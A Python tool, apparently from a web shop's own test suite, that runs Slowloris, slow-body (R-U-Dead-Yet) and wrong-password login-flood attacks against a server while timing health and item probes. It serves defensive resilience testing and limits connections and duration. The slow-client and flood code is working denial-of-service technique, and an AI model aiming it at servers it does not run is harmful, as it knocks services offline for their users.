"""Hostile clients: attack a running shop, and measure what honest clients feel meanwhile.

A server must stay useful while some of its clients misbehave. This tool plays the
misbehaving clients, one attack at a time, and all the while *probes* the server as an
orchestrator and a customer would: GET /health and GET /v1/items/{id}, each on a fresh
connection every 50 ms, timing every answer. Standard library only; it imports nothing of
the shop, so it works against any build of it (or any other server).

    python tools/hostile.py http://127.0.0.1:8000 slow-body --connections 50 --duration 15
    python tools/hostile.py http://127.0.0.1:8000 both --pid 12345
    python tools/hostile.py http://127.0.0.1:8000 login-flood --connections 50

Only attack servers you run yourself.

The attacks
-----------
slow-body    (R-U-Dead-Yet) each connection sends the complete head of `POST /v1/orders`
             with `Content-Length: 10000`, then one byte of the body a second.
slow-head    (Slowloris) each connection sends a request line, then one header line a
             second, and never the blank line that ends the head.
both         --connections of each kind at once.
login-flood  --connections clients log in to one account with a wrong password
             (POST /v1/auth/login), again and again until --duration is over: each attempt
             costs the server a whole PBKDF2 hash. A 503 is retried after its Retry-After.

A server that holds up answers every slow connection 408 (RFC 9110 §15.5.9) and closes it
without tying up a worker, answers every login 401 (or 503 with Retry-After when its
password-hashing queue is full, or 429 once a rate limit is spent), and keeps answering the
probes within milliseconds. The probes ask 20 times a second from one address, above the
shop's default rate limit: attack a server started with RATE_LIMITS=off to see the server
alone (the shop's rate limits are tested by tests/test_ratelimit.py).

A slow attack lasts --duration seconds at most, and ends sooner once every slow connection
has ended (a slow connection that ends is not replaced). A login flood lasts --duration.

The report
----------
One JSON document on stdout, for example:

    {"attack": "both", "connections": 50, "seconds": 10.2,
     "probes": {"/health": {"count": 190, "p50_ms": 1.1, "p99_ms": 4.0, "max_ms": 6.2, "failures": 0},
                "/v1/items/1": {"count": 185, "p50_ms": 2.3, "p99_ms": 7.9, "max_ms": 9.0, "failures": 0}},
     "slow_connections": {"slow-body": {"count": 50, "ended": {"408": 50}, "p50_seconds": 5.0, "max_seconds": 5.1},
                          "slow-head": {"count": 50, "ended": {"408": 50}, "p50_seconds": 10.0, "max_seconds": 10.1}},
     "open_fds": {"before": 9, "during_max": 111, "after": 9}}

- probes: a probe that got no answer at all (refused, reset, or silent for --timeout
  seconds) counts as --timeout and as a failure; an answer other than 200 counts its real
  time, and as a failure.
- slow_connections: how each ended: the status code of the answer it got ("408"),
  "closed without answer", "reset", "could not connect", or "still open" when the attack's
  time ran out first; and how long the connections stayed open.
- logins (login-flood): the answers by status, "no_answer" (nothing within --timeout),
  "503_without_retry_after", and their times.
- open_fds (with --pid, on Linux: the server's process id): the entries of /proc/PID/fd
  before the attack, the most seen during it, and after it, once back to the count before
  or SETTLE_SECONDS after the attack, whichever comes first.
"""

import argparse
import http.client
import json
import math
import os
import re
import socket
import sys
import threading
import time
from collections import Counter
from typing import NamedTuple
from urllib.parse import urlsplit

ATTACKS = ("slow-body", "slow-head", "both", "login-flood")
PROBE_INTERVAL_SECONDS = 0.05    # between the end of one probe and the start of the next
TRICKLE_INTERVAL_SECONDS = 1.0   # a slow client sends one more piece this often
SLOW_BODY_LENGTH = 10_000        # the Content-Length a slow body announces, and never sends
SETTLE_SECONDS = 5.0             # the longest wait for the server's fd count to come back down
WARM_UP_REQUESTS = 12            # item requests before the attack, WARM_UP_CLIENTS at a time
WARM_UP_CLIENTS = 4
ANSWER_BYTES = 4096              # enough for a status line
DEFAULT_CONNECTIONS = 50
MAX_CONNECTIONS = 500            # per kind of slow client: each one is a thread of this tool
DEFAULT_DURATION_SECONDS = 15.0
MAX_DURATION_SECONDS = 600.0
DEFAULT_TIMEOUT_SECONDS = 5.0
MAX_TIMEOUT_SECONDS = 60.0
MAX_RETRY_AFTER_SECONDS = 5.0    # the longest a flooding client honours a 503's Retry-After
LOGIN_PATH = "/v1/auth/login"
REGISTER_PATH = "/v1/auth/register"
DEFAULT_EMAIL = "flood-target@example.com"
# The throwaway account the flood aims at (no secret: anyone may register it). Long and
# uncommon enough for the shop's password rules (NIST SP 800-63B).
ACCOUNT_PASSWORD = "the flood target has a long and boring password"  # noqa: S105
WRONG_PASSWORD = "not the password of the flood target at all"  # noqa: S105
STATUS_LINE = re.compile(rb"HTTP/1\.[01] (\d{3}) ")


class Target(NamedTuple):
    host: str
    port: int

    @property
    def authority(self) -> str:
        """host:port, as the Host header carries it (an IPv6 address in brackets)."""
        return f"[{self.host}]:{self.port}" if ":" in self.host else f"{self.host}:{self.port}"


class Answer(NamedTuple):
    milliseconds: float
    status: int | None        # None: no answer at all
    retry_after: str | None   # its Retry-After header, if it had one


class ServerNotReady(Exception):
    """The server does not serve the probes before any attack: nothing to measure."""


def main(argv=None) -> int:
    arguments = _parse_arguments(argv)
    parts = urlsplit(arguments.url)
    if parts.scheme != "http" or not parts.hostname:
        print("the URL must be http://host:port (this tool speaks plain HTTP)", file=sys.stderr)
        return 2
    if arguments.pid and not os.path.isdir(f"/proc/{arguments.pid}/fd"):
        print(f"no /proc/{arguments.pid}/fd: --pid needs Linux and a running process of yours", file=sys.stderr)
        return 2
    target = Target(parts.hostname, parts.port or 80)
    try:
        report = run_attack(target, arguments.attack, connections=arguments.connections,
                            duration=arguments.duration, item_id=arguments.item_id,
                            timeout=arguments.timeout, pid=arguments.pid, email=arguments.email)
    except ServerNotReady as error:
        print(error, file=sys.stderr)
        return 1
    print(json.dumps(report, indent=2))
    return 0


def run_attack(target, attack, *, connections, duration, item_id=1, timeout=DEFAULT_TIMEOUT_SECONDS,
               pid=None, email=DEFAULT_EMAIL) -> dict:
    """Run one attack while probing; return the report (see the module docstring)."""
    probe_paths = ["/health", f"/v1/items/{item_id}"]
    _warm_up(target, probe_paths, timeout)
    if attack == "login-flood":
        _register(target, email, timeout)
    fds_before = count_open_fds(pid) if pid else None
    stop = threading.Event()
    probes: dict[str, list[Answer]] = {path: [] for path in probe_paths}
    fd_counts: list[int] = []
    helpers = [threading.Thread(target=keep_probing, args=(target, path, timeout, stop, answers))
               for path, answers in probes.items()]
    if pid:
        helpers.append(threading.Thread(target=keep_counting_fds, args=(pid, stop, fd_counts)))
    started = time.monotonic()
    for helper in helpers:
        helper.start()
    try:
        if attack == "login-flood":
            results = {"logins": login_summary(flood_logins(target, email, connections, duration, timeout))}
        else:
            kinds = ["slow-body", "slow-head"] if attack == "both" else [attack]
            ended = slow_attack(target, kinds, connections, started + duration, item_id, timeout)
            results = {"slow_connections": {kind: slow_summary(ended[kind]) for kind in kinds}}
    finally:
        stop.set()
        for helper in helpers:
            helper.join()
    report = {"attack": attack, "connections": connections, "seconds": round(time.monotonic() - started, 1),
              "probes": {path: probe_summary(answers) for path, answers in probes.items()}, **results}
    if pid:
        report["open_fds"] = {"before": fds_before, "during_max": max(fd_counts, default=fds_before),
                              "after": _settled_fd_count(pid, fds_before)}
    return report


# ---- probes: what an honest client feels -------------------------------------------------

def keep_probing(target, path, timeout, stop, answers) -> None:
    """GET `path` on a fresh connection, again and again until `stop` is set."""
    while not stop.is_set():
        answers.append(timed_request(target, "GET", path, timeout))
        stop.wait(PROBE_INTERVAL_SECONDS)


def timed_request(target, method, path, timeout, body=None) -> Answer:
    """One request on a new connection, timed from connect to the last byte of the answer.
    No answer within `timeout` (or a refused or reset connection) counts as `timeout`."""
    started = time.perf_counter()
    headers = {"Content-Type": "application/json"} if body is not None else {}
    connection = http.client.HTTPConnection(target.host, target.port, timeout=timeout)
    try:
        connection.request(method, path, body=body, headers=headers)
        response = connection.getresponse()
        response.read()
    except (OSError, http.client.HTTPException):
        return Answer(timeout * 1000, None, retry_after=None)
    finally:
        connection.close()
    milliseconds = (time.perf_counter() - started) * 1000
    return Answer(milliseconds, response.status, retry_after=response.getheader("Retry-After"))


def probe_summary(answers) -> dict:
    times = [answer.milliseconds for answer in answers]
    return {"count": len(answers), **_time_summary(times),
            "failures": sum(answer.status != 200 for answer in answers)}


# ---- slow clients ------------------------------------------------------------------------

def slow_attack(target, kinds, connections, stop_at, item_id, timeout) -> dict:
    """`connections` slow clients of each kind at once, until each ends or `stop_at`
    (monotonic): {kind: [(how it ended, seconds it was open)]}."""
    ended: dict[str, list] = {kind: [] for kind in kinds}

    def one_client(kind):
        ended[kind].append(slow_connection(target, kind, stop_at, item_id, timeout))

    clients = [threading.Thread(target=one_client, args=(kind,)) for kind in kinds for _ in range(connections)]
    for client in clients:
        client.start()
    for client in clients:
        client.join()
    return ended


def slow_connection(target, kind, stop_at, item_id, timeout) -> tuple[str, float]:
    """One slow client from connect to its end: (how it ended, seconds it was open)."""
    opening, piece = slow_request(kind, target, item_id)
    started = time.monotonic()
    try:
        sock = socket.create_connection((target.host, target.port), timeout=timeout)
    except OSError:
        return "could not connect", 0.0
    with sock:
        try:
            outcome = _trickle(sock, opening, piece, stop_at)
        except OSError:  # the server closed or reset while we sent: its answer may be waiting
            outcome = _answer_left(sock)
    return outcome, time.monotonic() - started


def slow_request(kind, target, item_id):
    """The bytes a slow client sends first, and a function giving its n-th later piece."""
    if kind == "slow-body":
        head = (f"POST /v1/orders HTTP/1.1\r\nHost: {target.authority}\r\nContent-Type: application/json\r\n"
                f"Content-Length: {SLOW_BODY_LENGTH}\r\n\r\n")
        return head.encode(), lambda number: b" "  # whitespace: valid JSON, were it ever finished
    head = f"GET /v1/items/{item_id} HTTP/1.1\r\nHost: {target.authority}\r\n"
    return head.encode(), lambda number: f"X-Slow-{number}: {number}\r\n".encode()


def slow_summary(ended) -> dict:
    seconds = [seconds_open for _, seconds_open in ended]
    return {"count": len(ended), "ended": dict(Counter(outcome for outcome, _ in ended).most_common()),
            "p50_seconds": round(percentile(seconds, 0.50), 1), "max_seconds": round(max(seconds, default=0.0), 1)}


def _trickle(sock, opening, piece, stop_at) -> str:
    """Send `opening`, then one piece a TRICKLE_INTERVAL_SECONDS, until the server answers or
    closes, or `stop_at`: how the connection ended."""
    sock.sendall(opening)
    number = 0
    while (remaining := stop_at - time.monotonic()) > 0:
        # Waiting for an answer is also the pause between two pieces.
        sock.settimeout(min(TRICKLE_INTERVAL_SECONDS, remaining))
        try:
            return _describe(sock.recv(ANSWER_BYTES))
        except TimeoutError:  # silence: the server still waits for the rest, so send a little more
            number += 1
            sock.sendall(piece(number))
    return "still open"


def _answer_left(sock) -> str:
    """What the server said before it closed, when a send to it failed."""
    try:
        sock.settimeout(TRICKLE_INTERVAL_SECONDS)
        return _describe(sock.recv(ANSWER_BYTES))
    except OSError:  # a reset destroys what the kernel had received and we had not read
        return "reset"


def _describe(answer) -> str:
    """'408' for an answer that starts with a status line; b'' is a close without one."""
    if not answer:
        return "closed without answer"
    match = STATUS_LINE.match(answer)
    return match.group(1).decode() if match else "garbled answer"


# ---- a flood of logins -------------------------------------------------------------------

def flood_logins(target, email, clients, duration, timeout) -> list[Answer]:
    """`clients` threads each log in with a wrong password, one attempt after another, for
    `duration` seconds; every attempt's answer.

    A 503's Retry-After is honoured, as a client library would: how many cheap refusals a
    server can send a second is a question for rate limits, not for the separate lanes that
    keep password hashing from starving everything else, which this attack is about."""
    body = json.dumps({"email": email, "password": WRONG_PASSWORD}).encode()
    stop_at = time.monotonic() + duration
    answers: list[Answer] = []

    def keep_logging_in():
        while time.monotonic() < stop_at:
            answer = timed_request(target, "POST", LOGIN_PATH, timeout, body)
            answers.append(answer)
            if answer.status == 503:
                time.sleep(min(retry_after_seconds(answer.retry_after), max(0.0, stop_at - time.monotonic())))

    threads = [threading.Thread(target=keep_logging_in) for _ in range(clients)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return answers


def login_summary(answers) -> dict:
    statuses = Counter(str(answer.status) for answer in answers if answer.status is not None)
    return {"count": len(answers), "statuses": dict(statuses.most_common()),
            "no_answer": sum(answer.status is None for answer in answers),
            "503_without_retry_after": sum(answer.status == 503 and answer.retry_after is None for answer in answers),
            **_time_summary([answer.milliseconds for answer in answers])}


def _register(target, email, timeout) -> None:
    """Make sure the flood's account exists (201 made now, 409 made before), so that every
    login checks a real hash."""
    body = json.dumps({"email": email, "password": ACCOUNT_PASSWORD}).encode()
    answer = timed_request(target, "POST", REGISTER_PATH, timeout, body)
    if answer.status not in (201, 409):
        raise ServerNotReady(f"registering {email} answered {answer.status or 'nothing'}")


# ---- the server's file descriptors -------------------------------------------------------

def count_open_fds(pid) -> int:
    """How many file descriptors process `pid` holds open (Linux: entries of /proc/PID/fd)."""
    return len(os.listdir(f"/proc/{pid}/fd"))


def keep_counting_fds(pid, stop, counts) -> None:
    while not stop.is_set():
        counts.append(count_open_fds(pid))
        stop.wait(PROBE_INTERVAL_SECONDS)


def _settled_fd_count(pid, before) -> int:
    """The fd count once back to `before`, or after SETTLE_SECONDS: a server may take a
    moment to notice closed connections (and linger before closing its side)."""
    deadline = time.monotonic() + SETTLE_SECONDS
    while (count := count_open_fds(pid)) > before and time.monotonic() < deadline:
        time.sleep(PROBE_INTERVAL_SECONDS)
    return count


# ---- small helpers -----------------------------------------------------------------------

def percentile(values, fraction):
    """The nearest-rank percentile of `values` (in any order); 0.0 when there are none.

    >>> percentile([5, 1, 4, 2, 3], 0.5)
    3
    >>> percentile(list(range(1, 101)), 0.99)
    99
    >>> percentile([], 0.5)
    0.0
    """
    if not values:
        return 0.0
    ordered = sorted(values)
    return ordered[max(1, math.ceil(fraction * len(ordered))) - 1]


def retry_after_seconds(value):
    """How long a Retry-After header asks a client to wait, at most MAX_RETRY_AFTER_SECONDS;
    0 without one, and 1 for an HTTP date (RFC 9110 §10.2.3), which this tool does not parse.

    >>> retry_after_seconds("2"), retry_after_seconds("3600"), retry_after_seconds(None)
    (2.0, 5.0, 0.0)
    """
    if value is None:
        return 0.0
    seconds = float(value) if value.strip().isdigit() else 1.0
    return min(seconds, MAX_RETRY_AFTER_SECONDS)


def _time_summary(milliseconds) -> dict:
    return {"p50_ms": round(percentile(milliseconds, 0.50), 1), "p99_ms": round(percentile(milliseconds, 0.99), 1),
            "max_ms": round(max(milliseconds, default=0.0), 1)}


def _warm_up(target, paths, timeout) -> None:
    """A few requests before the attack, WARM_UP_CLIENTS at a time: the server opens the
    database connections it keeps (so that the fd count before is the one to come back to),
    and a server that does not answer is reported now, not as a failed attack."""
    for path in paths:
        answer = timed_request(target, "GET", path, timeout)
        if answer.status != 200:
            raise ServerNotReady(f"GET {path} answered {answer.status or 'nothing'} before any attack: is the "
                                 "server running, with a seeded catalogue (python server.py seed)?")

    def a_few_requests():
        for _ in range(WARM_UP_REQUESTS // WARM_UP_CLIENTS):
            timed_request(target, "GET", paths[-1], timeout)

    threads = [threading.Thread(target=a_few_requests) for _ in range(WARM_UP_CLIENTS)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


def _parse_arguments(argv):
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0],
                                     epilog="The module docstring explains the attacks and the report.")
    parser.add_argument("url", help="the server, e.g. http://127.0.0.1:8000")
    parser.add_argument("attack", choices=ATTACKS)
    parser.add_argument("--connections", type=_bounded(int, 1, MAX_CONNECTIONS), default=DEFAULT_CONNECTIONS,
                        help=f"slow connections of each kind, or login clients (default {DEFAULT_CONNECTIONS})")
    parser.add_argument("--duration", type=_bounded(float, 1, MAX_DURATION_SECONDS),
                        default=DEFAULT_DURATION_SECONDS, help="seconds, at most (default %(default)s)")
    parser.add_argument("--timeout", type=_bounded(float, 0.1, MAX_TIMEOUT_SECONDS), default=DEFAULT_TIMEOUT_SECONDS,
                        help="seconds a request may go unanswered (default %(default)s)")
    parser.add_argument("--item-id", type=_bounded(int, 1, 2**63 - 1), default=1,
                        help="the item the probes read (default 1)")
    parser.add_argument("--pid", type=_bounded(int, 1, 2**22), help="the server's process id: count its open fds")
    parser.add_argument("--email", default=DEFAULT_EMAIL, help="the account login-flood aims at")
    return parser.parse_args(argv)


def _bounded(kind, low, high):
    """An argparse type: a `kind` number from `low` to `high`."""
    def parse(text):
        try:
            value = kind(text)
        except ValueError:
            raise argparse.ArgumentTypeError(f"not a number: {text}") from None
        if not low <= value <= high:
            raise argparse.ArgumentTypeError(f"must be from {low} to {high}")
        return value
    return parse


if __name__ == "__main__":
    sys.exit(main())
